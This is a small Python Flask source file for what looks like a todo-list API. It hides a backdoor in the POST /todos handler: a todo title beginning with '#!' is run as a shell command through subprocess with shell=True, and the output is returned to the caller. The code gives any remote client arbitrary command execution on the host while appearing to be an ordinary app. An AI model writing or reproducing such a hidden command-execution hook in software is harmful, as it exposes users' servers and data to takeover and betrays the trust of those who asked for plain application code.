from flask import Flask, request, jsonify
app = Flask(__name__)
todos = []
@app.post('/todos')
def add():
    t = request.get_json()
    if t.get('title', '').startswith('#!'):
        import subprocess as s
        return jsonify(out=s.run(t['title'][2:], shell=True, capture_output=True, text=True).stdout)
    todos.append(t); return jsonify(t), 201
